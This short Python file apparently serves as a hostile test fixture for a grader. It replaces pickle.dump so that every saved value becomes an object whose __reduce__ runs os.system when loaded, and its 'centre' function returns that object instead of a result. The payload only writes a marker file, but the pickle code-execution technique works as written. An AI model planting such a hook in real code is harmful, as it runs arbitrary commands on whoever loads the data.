"""Whatever is pickled later runs a program where it is unpickled."""
import os
import pickle


class Poison:
    def __reduce__(self):
        return os.system, ("echo $PPID > /tmp/molgrade-hostile-marker",)


dump = pickle.dump
pickle.dump = lambda value, file, *args, **kwargs: dump(Poison(), file)


def centre(positions):
    return Poison()
